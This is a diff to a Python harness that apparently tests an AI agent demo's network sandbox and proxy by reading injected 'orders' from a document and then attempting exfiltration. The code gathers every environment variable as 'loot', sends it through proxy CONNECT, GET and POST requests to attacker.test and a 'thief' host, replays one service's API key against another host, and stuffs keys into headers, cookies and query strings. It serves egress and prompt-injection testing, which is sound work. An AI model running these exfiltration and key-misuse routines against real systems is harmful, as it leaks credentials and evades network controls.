@@ -17,7 +17,7 @@ import subprocess
 import sys
 import urllib.error
 import urllib.request
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from contextlib import suppress
 from pathlib import Path
 
@@ -29,7 +29,7 @@ HOSTS = {name: f"https://{name}.acme.test" for name in ("search", "documents", "
 OUTSIDE = ("192.0.2.7", "198.51.100.7", "203.0.113.7", "8.8.8.8", "224.0.0.1", "255.255.255.255", "10.0.0.1")
 OUTSIDE_6 = ("2001:db8::7", "fe80::1%lo", "ff02::1%lo", "::ffff:192.0.2.7")
 SERVERS = Path(".mcp.json")
-KEYS = "acme-[a-z]+-[0-9A-Za-z]{8,}"  # what keys and their placeholders look like
+KEYS = "(acme-[a-z]+|sk-[a-z]+)-[-0-9A-Za-z]{8,}"  # what keys and their placeholders look like
 OWN_NETWORK = Path("/proc/self/ns/net")
 PRIVATE = b"-----BEGIN " + b"PRIVATE"
 LOOT = b"stolen: " + "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()
@@ -108,35 +108,32 @@ def _resolvers() -> list[str]:
     return []
 
 
-def by_the_proxy(thief: tuple[str, int]) -> None:
-    """Ask the proxy for others, in the forms that it has."""
+def by_the_proxy(thief: tuple[str, int], own: str, other: str, key: str) -> None:
+    """Ask the proxy for others than the ``own`` host, in the forms that it has, with a key that is for another one."""
     proxy = ("127.0.0.1", int(os.environ["REMIT_PROXY"].rpartition(":")[2]))
     place = f"{thief[0]}:{thief[1]}"
-    for target in (place, "attacker.test:443", "search.acme.test:80", f"search.acme.test@{place}", "[::1]:443"):
+    for target in (place, "attacker.test:443", f"{own}:80", f"{own}@{place}", "[::1]:443"):
         for head in (f"CONNECT {target} HTTP/1.1", f"GET http://{target}/ HTTP/1.1", f"POST http://{target}/ HTTP/1.1"):
             with suppress(OSError), socket.create_connection(proxy, PATIENCE) as sock:
                 sock.sendall(f"{head}\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode() + LOOT[:256])
                 say("loot", what=head, text=sock.recv(65536).decode("latin-1"))
     for at in (proxy, ("127.0.0.1", 443)):
-        for name, host in (("search.acme.test", "documents.acme.test"), ("attacker.test", "attacker.test")):
+        for name, host in ((own, other), ("attacker.test", "attacker.test")):
             with suppress(OSError), socket.create_connection(at, PATIENCE) as sock:
                 if at is proxy:
                     sock.sendall(f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode())
                     sock.recv(4096)
                 with ssl.create_default_context().wrap_socket(sock, server_hostname=name) as tls:
-                    key = os.environ["REMIT_KEY_DOCUMENTS"]
                     tls.sendall(f"GET /v1/echo HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {key}\r\n\r\n".encode())
                     say("loot", what=f"{name} as {host}", text=tls.recv(65536).decode("latin-1"))
 
 
-def by_echoes() -> None:
+def by_echoes(url: str, key: str) -> None:
     """Have the careless upstream say what it got, in every form, in ranges and with its key in all places."""
-    key = os.environ["REMIT_KEY_SEARCH"]
     for encoding in ("plain", "encoded"):
         for header in ({}, {"Range": "bytes=0-9"}, {"Accept-Encoding": "gzip, br"}, {"X-Copy": key}, {"Cookie": key}):
-            url = f"{HOSTS['search']}/v1/echo?encoding={encoding}"
-            by_proxy("GET", url, None, {"Authorization": f"Bearer {key}", **header})
-        by_proxy("GET", f"{HOSTS['search']}/v1/echo?encoding={encoding}&key={key}", None, {})
+            by_proxy("GET", f"{url}?encoding={encoding}", None, {"Authorization": f"Bearer {key}", **header})
+        by_proxy("GET", f"{url}?encoding={encoding}&key={key}", None, {})
 
 
 def _in_a_network_of_its_own(libc: ctypes.CDLL) -> None:
@@ -220,8 +217,23 @@ def serve() -> None:
 def _ways() -> None:
     for name, host in HOSTS.items():
         os.environ[f"REMIT_URL_{name.upper()}"] = host
+    call_by_proxy()
+
+
+def call_by_proxy() -> None:
+    """Have what the demo's agent does go by all ways."""
     for module in (calls, attack):
         module.__dict__["request"] = by_proxy
+
+
+def tried(attempts: Sequence[tuple[str, Callable[[], None]]]) -> None:
+    """Try one after the other."""
+    for what, attempt in attempts:
+        try:
+            attempt()
+        except Exception as error:  # noqa: BLE001 - it goes on, whatever happens
+            say("failed", what=what, text=repr(error))
+        say("tried", what=what)
 
 
 def main() -> None:
@@ -235,22 +247,18 @@ def main() -> None:
     orders = attack.Orders.read(told or document.body)
     place = orders.thief.removeprefix("http://").partition(":")
     thief = (place[0], int(place[2]))
+    own, other = (HOSTS[name].removeprefix("https://") for name in ("search", "documents"))
     # who has a key repeated is suspended, so that comes last
     attack.ATTEMPTS = tuple(sorted(attack.ATTEMPTS, key=lambda one: one[1] is attack.echo_headers))
     attack.obey(told or document.body)
     more: list[tuple[str, Callable[[], None]]] = [
-        ("the proxy", lambda: by_the_proxy(thief)),
+        ("the proxy", lambda: by_the_proxy(thief, own, other, os.environ["REMIT_KEY_DOCUMENTS"])),
         ("sockets", lambda: by_sockets(thief)),
         ("the kernel", by_the_kernel),
         ("grep", by_grep),
-        ("echoes", by_echoes),
+        ("echoes", lambda: by_echoes(f"{HOSTS['search']}/v1/echo", os.environ["REMIT_KEY_SEARCH"])),
     ]
-    for what, attempt in more:
-        try:
-            attempt()
-        except Exception as error:  # noqa: BLE001 - it goes on, whatever happens
-            say("failed", what=what, text=repr(error))
-        say("tried", what=what)
+    tried(more)
     sent = [
         by_proxy("POST", f"{orders.thief}/{name}", canary.encode(LOOT.decode(), name), {}).ok
         for name in canary.ENCODINGS
